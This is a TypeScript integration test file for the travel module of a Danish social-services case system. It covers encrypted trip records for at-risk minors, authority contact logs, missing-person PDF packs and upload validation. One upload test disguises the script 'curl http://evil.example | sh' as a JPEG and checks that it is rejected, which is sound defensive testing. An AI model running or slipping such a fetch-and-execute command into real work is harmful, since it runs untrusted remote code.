import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import { sql } from 'drizzle-orm';
import { extractText, getDocumentProxy } from 'unpdf';
import { forEachEngine } from '../../../../test/support/db.js';
import { createUser, loginAs, startTestApp, type Client, type TestApp } from '../../../../test/support/app.js';
import { queryRows } from '../../platform/db/client.js';
import { fieldCryptoFor } from '../../platform/crypto/fields.js';
import { todayIso } from '../../shared/codes.js';
import { casePersons } from '../case-core/cases.tables.js';
import { coordinationCase, coordinationPeople } from '../tasks/tasks.fixtures.js';
import { addDays } from '../case-core/work.scope.js';
import { COUNTRY_CODES, COUNTRY_NAMES_DA } from './travel.countries.js';

const pdfText = async (buf: Buffer) => (await extractText(await getDocumentProxy(new Uint8Array(buf)), { mergePages: true })).text;

/** Issue 12: the travel record, the authority contact log, the minor's countdown and the missing-person pack. */
forEachEngine('travel cases', (engine) => {
  let t: TestApp;
  let p: Awaited<ReturnType<typeof coordinationPeople>>;
  let outsider: Client;
  let caseId: string;
  let uncleId: string;
  const cpr = '150310-4123';
  before(async () => {
    t = await startTestApp(engine);
    p = await coordinationPeople(t.ctx, t.app);
    outsider = await loginAs(t.app, (await createUser(t.ctx, { role: 'consultant', region: 'Region Nordjylland' })).username);
    const c = await coordinationCase(t.ctx, p);
    caseId = c.id;
    const fc = fieldCryptoFor(t.ctx.config);
    await t.ctx.db.insert(casePersons).values({ caseId, role: 'BORGER', nameEnc: fc.encrypt('Sara Testesen'), cprEnc: fc.encrypt(cpr), birthDateEnc: fc.encrypt('2010-03-15') });
    const [uncle] = await t.ctx.db.insert(casePersons).values({ caseId, role: 'TILLIDSPERSON', nameEnc: fc.encrypt('Ali Onkel') }).returning();
    uncleId = uncle!.id;
    await t.ctx.db.execute(sql`UPDATE cases SET citizen_minor = true, citizen_age_band = '15_17' WHERE id = ${caseId}`);
  });
  after(() => t.close());

  it('ships the 249 ISO 3166-1 codes with Danish names', () => {
    assert.equal(COUNTRY_CODES.length, 249);
    assert.equal(COUNTRY_NAMES_DA.PK, 'Pakistan');
    assert.equal(COUNTRY_NAMES_DA.TR, 'Tyrkiet');
    assert.equal(COUNTRY_NAMES_DA.DK, 'Danmark');
  });

  it('records a trip with every field of seed 001, versioned, encrypted at rest, journalled; a minor sees § 17, stk. 3 and the countdown', async () => {
    const empty = await p.konsClient.get(`/api/cases/${caseId}/travel`);
    assert.equal(empty.statusCode, 200, empty.body);
    assert.equal(empty.json().version, 0);
    assert.equal(empty.json().id, null);

    const outbound = addDays(todayIso(), 12);
    const body = {
      version: 0, phase: 'FOER', destinationCountry: 'PK', outboundOn: outbound, expectedReturnOn: null,
      hosts: [{ name: 'Farmor Testesen', relation: 'Farmor', contact: 'Lahore' }],
      statedPurpose: 'Besøge familien i sommerferien', fears: ['TVANGSAEGTESKAB', 'UDEN_SKOLEGANG'],
      route: 'København – Istanbul – Lahore', outboundTime: '06:40', outboundFlight: 'TK1784',
      returnPlanned: false, returnTicketBought: false, alternatives: 'Kan bo hos moster i Ishøj',
      citizenships: [{ holder: 'BORGER', country: 'DK' }, { holder: 'BORGER', country: 'PK' }, { holder: 'FAR', country: 'PK' }],
      passports: [{ holder: 'BORGER', country: 'DK', number: 'DK1234567' }, { holder: 'BORGER', country: 'PK', number: 'PK7654321', note: 'Opbevares af far' }],
      reentryNote: 'Mor er dansk statsborger', trustedPersons: [{ personId: uncleId, abroad: false, contact: '20 30 40 50' }, { name: 'Veninde Fatima', abroad: true, country: 'PK' }],
    };
    const saved = await p.konsClient.put(`/api/cases/${caseId}/travel`, body);
    assert.equal(saved.statusCode, 200, saved.body);
    const v = saved.json();
    assert.equal(v.version, 1);
    assert.equal(v.destinationCountryName, 'Pakistan');
    assert.equal(v.passports.length, 2);
    assert.deepEqual(v.trustedPersons.map((x: { name: string }) => x.name), ['Ali Onkel', 'Veninde Fatima']);
    assert.equal(v.minor.applies, true);
    assert.match(v.minor.residencePermitNote, /udlændingeloven § 17, stk\. 3/);
    assert.equal(v.minor.daysToDeparture, 12);
    assert.equal(v.watch.open, true, 'a trip not yet over is an open watch');

    const row = (await queryRows<{ row: string }>(t.ctx.db, sql`SELECT t::text AS row FROM travel_trips t WHERE case_id = ${caseId}`))[0]!.row;
    for (const secret of ['TK1784', 'Farmor', 'Lahore', 'PK7654321', 'Ishøj', 'Fatima', 'TVANGSAEGTESKAB']) assert.ok(!row.includes(secret), `"${secret}" stored in the clear`);
    assert.ok(row.includes('PK'), 'the country code is in the clear');

    const journal = (await p.konsClient.get(`/api/cases/${caseId}/journal`)).json().items.map((e: { title: string }) => e.title);
    assert.ok(journal.some((x: string) => x.startsWith('Rejse til Pakistan registreret')), journal.join('\n'));

    const stale = await p.cwClient.put(`/api/cases/${caseId}/travel`, { ...body, version: 0 });
    assert.equal(stale.statusCode, 409);
    assert.equal(stale.json().error.code, 'conflict.stale');

    // A second trip; the first stays readable by id.
    const second = await p.cwClient.post(`/api/cases/${caseId}/travel/trips`, { phase: 'FOER', destinationCountry: 'TR' });
    assert.equal(second.statusCode, 201, second.body);
    assert.equal(second.json().trips.length, 2);
    const first = await p.konsClient.get(`/api/cases/${caseId}/travel?trip=${v.id}`);
    assert.equal(first.json().outboundFlight, 'TK1784');
    // Writing the first trip again by id.
    const again = await p.konsClient.put(`/api/cases/${caseId}/travel`, { ...body, tripId: v.id, version: 1, phase: 'UNDER' });
    assert.equal(again.statusCode, 200, again.body);
    assert.equal(again.json().minor.daysToDeparture, null, 'no countdown once abroad');
  });

  it('refuses bad input naming the field, nothing half-written', async () => {
    const before = (await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM travel_trips WHERE case_id = ${caseId}`))[0]!.n;
    for (const [body, path] of [
      [{ destinationCountry: 'XX' }, 'body.destinationCountry'],
      [{ outboundOn: '2026-05-10', expectedReturnOn: '2026-05-01' }, 'body.expectedReturnOn'],
      [{ returnedOn: '2026-01-02', phase: 'UNDER' }, 'body.phase'],
      [{ outboundTime: '25:00' }, 'body.outboundTime'],
      [{ fears: ['ANDET'] }, 'body.fearsOther'],
      [{ trustedPersons: [{ personId: '00000000-0000-4000-8000-000000000000' }] }, 'body.trustedPersons.0.personId'],
    ] as const) {
      const res = await p.konsClient.post(`/api/cases/${caseId}/travel/trips`, body);
      assert.equal(res.statusCode, 400, res.body);
      assert.ok(res.json().error.details.some((d: { path: string }) => d.path === path), `${path}: ${res.body}`);
    }
    const afterN = (await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM travel_trips WHERE case_id = ${caseId}`))[0]!.n;
    assert.equal(afterN, before);
  });

  it('logs authority contacts (Globale Vagtcenter) and makes a task from one in one action', async () => {
    const logged = await p.konsClient.post(`/api/cases/${caseId}/travel/contacts`, {
      authority: 'UDENRIGSMINISTERIET', contactedAt: new Date().toISOString(), channel: 'TELEFON', who: 'Vagthavende, Globale Vagtcenter',
      summary: 'Ambassaden i Islamabad kontaktes; vi sender pasoplysninger',
    });
    assert.equal(logged.statusCode, 201, logged.body);
    const list = await p.cwClient.get(`/api/cases/${caseId}/travel/contacts`);
    assert.equal(list.statusCode, 200);
    assert.equal(list.json().items[0].authorityLabel, 'Udenrigsministeriet (Borgerservice / Globale Vagtcenter)');
    const task = await p.konsClient.post(`/api/cases/${caseId}/travel/contacts/${logged.json().id}/task`, { owner: { userId: p.kons.id }, deadline: addDays(todayIso(), 2) });
    assert.equal(task.statusCode, 201, task.body);
    assert.match(task.json().title, /^Opfølgning på kontakt med Udenrigsministeriet/);
    const tasks = (await p.konsClient.get(`/api/cases/${caseId}/tasks`)).json().tasks.map((x: { title: string }) => x.title);
    assert.ok(tasks.some((x: string) => x.includes('Ambassaden i Islamabad')));
    const stored = (await queryRows<{ row: string }>(t.ctx.db, sql`SELECT c::text AS row FROM travel_contacts c WHERE case_id = ${caseId}`))[0]!.row;
    assert.ok(!stored.includes('Islamabad') && !stored.includes('Vagthavende'), 'who and what was agreed are encrypted');
  });

  it('prints the missing-person pack: flight number, confidential, who printed it; no CPR unless asked; audited', async () => {
    const current = (await p.konsClient.get(`/api/cases/${caseId}/travel`)).json();
    const firstTrip = current.trips.find((x: { destinationCountry: string }) => x.destinationCountry === 'PK').id;
    const res = await p.konsClient.get(`/api/cases/${caseId}/travel/pack.pdf?trip=${firstTrip}`);
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(res.headers['content-type'], 'application/pdf');
    const text = await pdfText(res.rawPayload);
    assert.match(text, /TK1784/);
    assert.match(text, /FORTROLIGT/);
    assert.match(text, /Udskrevet af Karin Konsulent/);
    assert.match(text, /Pakistan/);
    assert.ok(!text.includes(cpr) && !text.includes('1503104123'), 'no CPR unless asked');
    const withCpr = await pdfText((await p.konsClient.get(`/api/cases/${caseId}/travel/pack.pdf?trip=${firstTrip}&cpr=true`)).rawPayload);
    assert.ok(withCpr.includes(cpr), 'the CPR number when asked');
    const audits = await queryRows<{ cpr: string }>(t.ctx.db, sql`SELECT details->>'withCpr' AS cpr FROM audit_events WHERE event_type = 'travel.pack_exported' AND case_id = ${caseId} ORDER BY occurred_at`);
    assert.deepEqual(audits.map((a) => a.cpr), ['false', 'true']);
  });

  it('attachments: a photo by its magic bytes, encrypted at rest (not in a dump in plain form), each download audited; a renamed script refused; outsiders 404', async () => {
    const png = Buffer.concat([Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64'), Buffer.from('SKJOLD-FOTO-MARKOER-7731')]);
    const multipart = async (parts: Record<string, string | { name: string; type: string; data: Buffer }>) => {
      const form = new FormData();
      for (const [k, v] of Object.entries(parts)) {
        if (typeof v === 'string') form.append(k, v);
        else form.append(k, new Blob([new Uint8Array(v.data)], { type: v.type }), v.name);
      }
      const req = new Request('http://x/', { method: 'POST', body: form });
      return { payload: Buffer.from(await req.arrayBuffer()), headers: { 'content-type': req.headers.get('content-type')! } };
    };
    const upload = async (client: Client, parts: Parameters<typeof multipart>[0]) =>
      client.request({ method: 'POST', url: `/api/cases/${caseId}/travel/attachments`, ...(await multipart(parts)) });

    const ok = await upload(p.konsClient, { kind: 'FOTO', file: { name: 'sara.png', type: 'application/octet-stream', data: png } });
    assert.equal(ok.statusCode, 201, ok.body);
    assert.equal(ok.json().mimeType, 'image/png', 'the type comes from the content, not the client');

    const script = await upload(p.konsClient, { kind: 'FOTO', file: { name: 'foto.jpg', type: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n') } });
    assert.equal(script.statusCode, 400, script.body);
    assert.ok(script.json().error.details.some((d: { path: string }) => d.path === 'body.file'));
    const badKind = await upload(p.konsClient, { kind: 'SELFIE', file: { name: 'a.png', type: 'image/png', data: png } });
    assert.equal(badKind.statusCode, 400);
    assert.ok(badKind.json().error.details.some((d: { path: string }) => d.path === 'body.kind'));
    const big = await upload(p.konsClient, { kind: 'PASKOPI', file: { name: 'pas.pdf', type: 'application/pdf', data: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(10 * 1024 * 1024)]) } });
    assert.equal(big.statusCode, 400, big.body);
    // Far over the limit, refused before the form is read: still the field and the limit, in Danish.
    const huge = await upload(p.konsClient, { kind: 'PASKOPI', file: { name: 'pas.pdf', type: 'application/pdf', data: Buffer.alloc(12 * 1024 * 1024) } });
    assert.equal(huge.statusCode, 400, huge.body);
    assert.deepEqual(huge.json().error.details, [{ path: 'body.file', message: 'Filen må højst være 10 MB' }]);
    assert.equal((await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM travel_attachments WHERE case_id = ${caseId}`))[0]!.n, 1, 'only the photo is stored');

    // Not in the database in plain form: neither the bytes' marker nor the file as base64, in any table.
    const tables = await queryRows<{ table_name: string }>(t.ctx.db, sql`SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'`);
    const needles = ['SKJOLD-FOTO-MARKOER-7731', png.toString('base64').slice(0, 40), 'sara.png'];
    for (const { table_name } of tables) {
      for (const { t: row } of await queryRows<{ t: string }>(t.ctx.db, sql.raw(`SELECT t::text AS t FROM "${table_name}" t`))) {
        for (const n of needles) assert.ok(!row.includes(n), `${table_name} holds ${n.slice(0, 12)}… in the clear`);
      }
    }

    const listed = await p.cwClient.get(`/api/cases/${caseId}/travel/attachments`);
    assert.equal(listed.statusCode, 200);
    assert.equal(listed.json().items[0].fileName, 'sara.png');
    const fid = ok.json().id;
    const got = await p.cwClient.get(`/api/cases/${caseId}/travel/attachments/${fid}`);
    assert.equal(got.statusCode, 200);
    assert.equal(got.headers['content-type'], 'image/png');
    assert.ok(got.rawPayload.equals(png));
    const reads = await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM audit_events WHERE event_type = 'travel.attachment_read' AND subject_id = ${fid}`);
    assert.equal(reads[0]!.n, 1);

    assert.equal((await outsider.get(`/api/cases/${caseId}/travel/attachments/${fid}`)).statusCode, 404);
    assert.equal((await outsider.get(`/api/cases/${caseId}/travel/attachments`)).statusCode, 404);
    const denials = async () => (await queryRows<{ n: number }>(t.ctx.db, sql`SELECT count(*)::int AS n FROM audit_events WHERE event_type = 'access.denied' AND case_id = ${caseId}`))[0]!.n;
    const deniedBefore = await denials();
    assert.equal((await upload(outsider, { kind: 'FOTO', file: { name: 'a.png', type: 'image/png', data: png } })).statusCode, 404);
    // The upload scope's own error handler passes refusals on: the outsider's attempt is still in the trail.
    assert.equal(await denials(), deniedBefore + 1);
    // The missing-person pack now carries the photo, and still says nothing of where it came from in the clear.
    const trip = (await p.konsClient.get(`/api/cases/${caseId}/travel`)).json().id;
    const pack = await p.konsClient.get(`/api/cases/${caseId}/travel/pack.pdf?trip=${trip}`);
    assert.equal(pack.statusCode, 200);
    assert.ok(pack.rawPayload.toString('latin1').includes('/Subtype /Image'), 'the photo is in the pack');
    // Another case's attachment id under this case is a 404 too.
    const other = await coordinationCase(t.ctx, p);
    assert.equal((await p.konsClient.get(`/api/cases/${other.id}/travel/attachments/${fid}`)).statusCode, 404);
  });

  it('answers 404 to an outsider on every travel route, as for a missing case', async () => {
    const contact = (await p.konsClient.get(`/api/cases/${caseId}/travel/contacts`)).json().items[0].id;
    const calls: [string, string, unknown?][] = [
      ['GET', `/api/cases/${caseId}/travel`],
      ['PUT', `/api/cases/${caseId}/travel`, { version: 0 }],
      ['POST', `/api/cases/${caseId}/travel/trips`, {}],
      ['GET', `/api/cases/${caseId}/travel/contacts`],
      ['POST', `/api/cases/${caseId}/travel/contacts`, { authority: 'POLITI', contactedAt: new Date().toISOString(), summary: 'x' }],
      ['POST', `/api/cases/${caseId}/travel/contacts/${contact}/task`, { owner: { userId: p.kons.id }, deadline: todayIso() }],
      ['GET', `/api/cases/${caseId}/travel/pack.pdf`],
    ];
    for (const [method, url, body] of calls) {
      const res = method === 'GET' ? await outsider.get(url) : method === 'PUT' ? await outsider.put(url, body) : await outsider.post(url, body);
      assert.equal(res.statusCode, 404, `${method} ${url}: ${res.body}`);
    }
  });
});
